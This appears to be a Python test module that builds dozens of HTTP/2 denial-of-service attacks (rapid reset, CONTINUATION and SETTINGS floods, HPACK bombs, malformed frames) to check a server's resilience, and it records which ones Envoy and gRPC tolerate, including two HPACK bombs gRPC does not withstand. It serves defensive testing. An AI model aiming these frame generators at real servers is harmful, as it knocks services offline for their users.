"""Attacks by HTTP/2 frames: each abuses one thing that a caller may do, or may not."""

from __future__ import annotations

import itertools
import struct
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    PushPromiseFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.hostile.http2 import ACK, END_HEADERS, END_STREAM, PREFACE, block, frame, settings

_CANCEL = 8
_INITIAL_WINDOW_SIZE = 4
_WINDOW_MAX = 2**31 - 1
# As much as fits into the dynamic table, and one byte that means "that entry again".
_ENTRY = 4096 - 32 - len("x-bomb")
_AGAIN = b"\xbe"


@dataclass(frozen=True, slots=True)
class Request:
    """A request that is answered: its header block, and its message.

    Attributes:
        headers: The block. It leaves nothing in the dynamic table.
        message: What follows in a DATA frame; with none, the headers are all.
    """

    headers: bytes
    message: bytes

    def open(self, stream: int) -> bytes:
        """Returns the beginning of the request: its headers alone."""
        return frame(HeadersFrame, stream, self.headers, END_HEADERS)

    def whole(self, stream: int) -> bytes:
        """Returns all of it."""
        if not self.message:
            return frame(HeadersFrame, stream, self.headers, END_HEADERS | END_STREAM)
        return self.open(stream) + frame(DataFrame, stream, self.message, END_STREAM)


@dataclass(frozen=True, slots=True)
class Attack:
    """What is sent.

    Attributes:
        frames: Yields it, without end where it is a flood.
        first: What the connection begins with.
        reads: Whether the answers are read.
        acknowledges: Whether the peer's SETTINGS and PINGs are.
        count: How many turns of it there are.
    """

    frames: Callable[[Request], Iterator[bytes]]
    first: bytes = PREFACE + settings()
    reads: bool = True
    acknowledges: bool = True
    count: int = 20_000


def _streams() -> Iterator[int]:
    return itertools.count(1, 2)


def _after(each: Callable[[Request, int], bytes], request: Request) -> Iterator[bytes]:
    """Yields a request, and something about it; and so on."""
    return (each(request, stream) for stream in _streams())


def _rapid_reset(request: Request, stream: int) -> bytes:
    return request.whole(stream) + _reset(stream)


def _reset_of_the_open(request: Request, stream: int) -> bytes:
    return request.open(stream) + _reset(stream)


def _reset(stream: int) -> bytes:
    return frame(RstStreamFrame, stream, struct.pack(">I", _CANCEL))


def _window(stream: int, increment: int) -> bytes:
    return frame(WindowUpdateFrame, stream, struct.pack(">I", increment))


def _window_of_0(request: Request, stream: int) -> bytes:
    return request.whole(stream) + _window(stream, 0)


def _window_overflow(request: Request, stream: int) -> bytes:
    return request.whole(stream) + _window(stream, _WINDOW_MAX)


def _data_after_the_end(request: Request, stream: int) -> bytes:
    return request.whole(stream) + frame(DataFrame, stream, b"x")


def _headers_after_the_end(request: Request, stream: int) -> bytes:
    return request.whole(stream) + request.open(stream)


def _own_dependency(request: Request, stream: int) -> bytes:
    return request.whole(stream) + _priority(stream, stream)


def _short_priority(request: Request, stream: int) -> bytes:
    return request.whole(stream) + frame(PriorityFrame, stream, b"\0\0\0\0")


def _priority(stream: int, parent: int) -> bytes:
    return frame(PriorityFrame, stream, struct.pack(">IB", parent, 7))


def _malformed(_: Request, stream: int) -> bytes:
    return frame(HeadersFrame, stream, block([(":method", "GET"), ("Upper", "x")]), END_HEADERS | END_STREAM)


def _begun(rest: bytes | Callable[[int], bytes], request: Request, flags: int = END_HEADERS) -> Iterator[bytes]:
    """Yields the beginning of one request, and then always the same."""
    yield frame(HeadersFrame, 1, request.headers, flags)
    yield from (rest if isinstance(rest, bytes) else rest(number) for number in itertools.count())


def _always(data: bytes, _: Request) -> Iterator[bytes]:
    return itertools.repeat(data)


def _once(*frames: bytes) -> Callable[[Request], Iterator[bytes]]:
    return lambda _: iter(frames)


def _literal(name: bytes, value: bytes) -> bytes:
    """Returns a header that stays out of the dynamic table."""
    return hpack.Encoder().encode([(name, value, True)], huffman=False)


def _bomb(references: int, request: Request, flags: int = END_HEADERS) -> Iterator[bytes]:
    """Yields an entry that fills the dynamic table, and requests made of it."""
    entry = hpack.Encoder().encode([(b"x-bomb", b"b" * _ENTRY)], huffman=False)
    yield frame(HeadersFrame, 1, request.headers + entry, END_HEADERS)
    for stream in itertools.count(3, 2):
        yield frame(HeadersFrame, stream, request.headers + _AGAIN * references, flags)


def _crumbs(request: Request) -> Iterator[bytes]:
    """Yields requests of many cookies, each a byte of the dynamic table."""
    entry = hpack.Encoder().encode([(b"cookie", b"c" * 4000)], huffman=False)
    yield frame(HeadersFrame, 1, request.headers + entry, END_HEADERS)
    for stream in itertools.count(3, 2):
        yield frame(HeadersFrame, stream, request.headers + _AGAIN * 10_000, END_HEADERS)


def _resized(request: Request) -> Iterator[bytes]:
    """Yields requests whose blocks begin with many sizes of the dynamic table: 0, 4,096, and so on."""
    for stream in _streams():
        yield frame(HeadersFrame, stream, b"\x20\x3f\xe1\x1f" * 1000 + request.headers, END_HEADERS)


def _opened(request: Request) -> Iterator[bytes]:
    return (request.open(stream) for stream in _streams())


def _asked(request: Request) -> Iterator[bytes]:
    return (request.whole(stream) for stream in _streams())


def _by_bytes(request: Request) -> Iterator[bytes]:
    """Yields requests, and then leave to send one byte more of each answer."""
    streams = list(itertools.islice(_streams(), 50))
    yield from (request.whole(stream) for stream in streams)
    yield from (_window(stream, 1) for stream in itertools.cycle(streams))


def _window_up_and_down(request: Request) -> Iterator[bytes]:
    """Yields requests, and then SETTINGS that change the window of all of them."""
    yield from (request.whole(stream) for stream in itertools.islice(_streams(), 90))
    yield from (settings((_INITIAL_WINDOW_SIZE, size)) for size in itertools.cycle([1, 0]))


_NO_WINDOW = PREFACE + settings((_INITIAL_WINDOW_SIZE, 0))
_PING = frame(PingFrame, payload=bytes(8))

ATTACKS: dict[str, Attack] = {
    "rapid reset": Attack(partial(_after, _rapid_reset)),
    "rapid reset, unread": Attack(partial(_after, _rapid_reset), reads=False, acknowledges=False),
    "rapid reset of headers alone": Attack(partial(_after, _reset_of_the_open)),
    "made to reset: window of 0": Attack(partial(_after, _window_of_0)),
    "made to reset: window too large": Attack(partial(_after, _window_overflow)),
    "made to reset: DATA after the end": Attack(partial(_after, _data_after_the_end)),
    "made to reset: HEADERS after the end": Attack(partial(_after, _headers_after_the_end)),
    "made to reset: depends on itself": Attack(partial(_after, _own_dependency)),
    "made to reset: PRIORITY too short": Attack(partial(_after, _short_priority)),
    "made to reset: malformed requests": Attack(partial(_after, _malformed)),
    "CONTINUATION flood": Attack(
        partial(_begun, frame(ContinuationFrame, 1, _literal(b"x-more", b"m" * 1000)), flags=0)
    ),
    "CONTINUATION flood, small": Attack(partial(_begun, frame(ContinuationFrame, 1, _literal(b"x", b"")), flags=0)),
    "CONTINUATION flood, empty": Attack(partial(_begun, frame(ContinuationFrame, 1), flags=0)),
    "SETTINGS flood": Attack(partial(_always, settings((3, 100)))),
    "SETTINGS flood, unread": Attack(partial(_always, settings((3, 100))), reads=False, acknowledges=False),
    "SETTINGS of 2,000 rows": Attack(partial(_always, settings(*[(99, 1)] * 2000)), count=2_000),
    "SETTINGS acknowledged again and again": Attack(partial(_always, frame(SettingsFrame, flags=ACK))),
    "window up and down": Attack(_window_up_and_down, first=_NO_WINDOW, count=5_000),
    "PING flood": Attack(partial(_always, _PING)),
    "PING flood, unread": Attack(partial(_always, _PING), reads=False, acknowledges=False),
    "PING answers to nothing": Attack(partial(_always, frame(PingFrame, payload=bytes(8), flags=ACK))),
    "empty DATA flood": Attack(partial(_begun, frame(DataFrame, 1))),
    "padded empty DATA flood": Attack(partial(_begun, frame(DataFrame, 1, bytes([255]) + bytes(255), 8)), count=5_000),
    "PRIORITY flood": Attack(partial(_begun, lambda number: _priority(3 + 2 * number, 1))),
    "PRIORITY flood, one stream": Attack(partial(_begun, _priority(1, 3))),
    "WINDOW_UPDATE flood": Attack(partial(_always, _window(0, 1))),
    "WINDOW_UPDATE flood, one stream": Attack(partial(_begun, _window(1, 1))),
    "flood of an unknown kind": Attack(partial(_always, frame(0xBB, 0, b"?"))),
    "RST_STREAM flood, one stream": Attack(partial(_begun, _reset(1))),
    "GOAWAY flood": Attack(partial(_always, frame(GoAwayFrame, payload=bytes(8)))),
    "HPACK bomb: 64 MB in one request": Attack(partial(_bomb, 16_000), count=100),
    "HPACK bomb: 28 KB in each of many": Attack(partial(_bomb, 6), count=2_000),
    "HPACK bomb: 80 KB in each of many": Attack(partial(_bomb, 20), count=2_000),
    "HPACK bomb, unread": Attack(partial(_bomb, 20), first=_NO_WINDOW, reads=False, acknowledges=False, count=2_000),
    "HPACK bomb, never ended": Attack(partial(_bomb, 20, flags=0), count=100),
    "HPACK bomb of cookies": Attack(_crumbs, count=100),
    "HPACK table resized": Attack(_resized, count=2_000),
    "HPACK table too large": Attack(_once(frame(HeadersFrame, 1, b"\x3f\xff\xff\xff\x7f", END_HEADERS))),
    "HPACK index of nothing": Attack(_once(frame(HeadersFrame, 1, b"\xff\xff\xff\xff\x0f", END_HEADERS))),
    "HPACK number without end": Attack(_once(frame(HeadersFrame, 1, b"\xff" * 200, END_HEADERS))),
    "huge header": Attack(partial(_begun, frame(ContinuationFrame, 1, b"a" * 16_384), flags=0), count=100),
    "1,000 streams opened": Attack(_opened, count=1_000),
    "1,000 streams opened, unread": Attack(_opened, reads=False, acknowledges=False, count=1_000),
    "answers unread": Attack(_asked, first=_NO_WINDOW, count=1_000),
    "answers by bytes": Attack(_by_bytes, first=_NO_WINDOW),
    "HTTP/1 after the preface": Attack(_once(b"GET / HTTP/1.1\r\n\r\n")),
    "preface of another kind": Attack(_once(settings()), first=b"PRI * HTTP/2.1\r\n\r\nSM\r\n\r\n"),
    "preface alone, then no SETTINGS": Attack(_once(_PING), first=PREFACE),
    "DATA on stream 0": Attack(_once(frame(DataFrame, 0, b"x"))),
    "HEADERS on stream 0": Attack(lambda request: iter([request.open(0)])),
    "RST_STREAM on stream 0": Attack(_once(_reset(0))),
    "RST_STREAM of an idle stream": Attack(_once(_reset(5))),
    "SETTINGS on a stream": Attack(_once(frame(SettingsFrame, 1))),
    "SETTINGS out of range": Attack(_once(settings((_INITIAL_WINDOW_SIZE, 2**32 - 1)))),
    "SETTINGS of 5 bytes": Attack(_once(frame(SettingsFrame, 0, bytes(5)))),
    "PING of 7 bytes": Attack(_once(frame(PingFrame, 0, bytes(7)))),
    "WINDOW_UPDATE of 0 for all": Attack(_once(_window(0, 0))),
    "WINDOW_UPDATE too large for all": Attack(_once(_window(0, _WINDOW_MAX))),
    "PUSH_PROMISE from a caller": Attack(_once(frame(PushPromiseFrame, 1, bytes(4), END_HEADERS))),
    "CONTINUATION of nothing": Attack(_once(frame(ContinuationFrame, 1, b"", END_HEADERS))),
    "another frame among CONTINUATIONs": Attack(lambda r: iter([frame(HeadersFrame, 1, r.headers), _PING])),
    "a frame too large": Attack(_once(frame(HeadersFrame, 1, bytes(16_385), END_HEADERS))),
    "padding larger than its frame": Attack(_once(frame(HeadersFrame, 1, b"\xffab", END_HEADERS | 8))),
    "a stream of the server's": Attack(lambda request: iter([request.whole(2)])),
    "a stream that went by": Attack(lambda request: iter([request.whole(5), request.whole(3)])),
    "a stream of the largest number": Attack(lambda r: iter([r.whole(_WINDOW_MAX), r.whole(1)])),
    "DATA of a stream never opened": Attack(_once(frame(DataFrame, 7, b"x"))),
}

# What may go on. By Envoy it is ignored, or answered for as long as the answers are taken; where 1,000 of them wait,
# the caller is cut off, too.
_IGNORED = {
    "PING answers to nothing",
    "flood of an unknown kind",
    "a stream that went by",
    "a stream of the largest number",
}
_ANSWERED = {"SETTINGS flood", "SETTINGS flood, unread", "window up and down"}
TAKEN: dict[str, set[str]] = {
    "Envoy": _IGNORED | _ANSWERED | {"PING flood", "PING flood, unread"},
    # grpcio knows no limit for frames that cost it little more than reading them, and overlooks much.
    "gRPC": _IGNORED
    | _ANSWERED
    | {
        "SETTINGS of 2,000 rows",
        "empty DATA flood",
        "PRIORITY flood",
        "PRIORITY flood, one stream",
        "WINDOW_UPDATE flood",
        "WINDOW_UPDATE flood, one stream",
        "RST_STREAM flood, one stream",
        "GOAWAY flood",
        "answers by bytes",
        "DATA on stream 0",
        "HEADERS on stream 0",
        "RST_STREAM on stream 0",
        "RST_STREAM of an idle stream",
        "WINDOW_UPDATE too large for all",
        "PUSH_PROMISE from a caller",
        "a stream of the server's",
        "DATA of a stream never opened",
    },
}

# Not held: grpcio reads a block to its end when it has long refused it, at 1 µs and more for each byte that stands for
# a header. A few callers keep all cores busy with it. Nothing that can be set changes that.
NOT_HELD = {("gRPC", "HPACK bomb: 64 MB in one request"), ("gRPC", "HPACK bomb of cookies")}
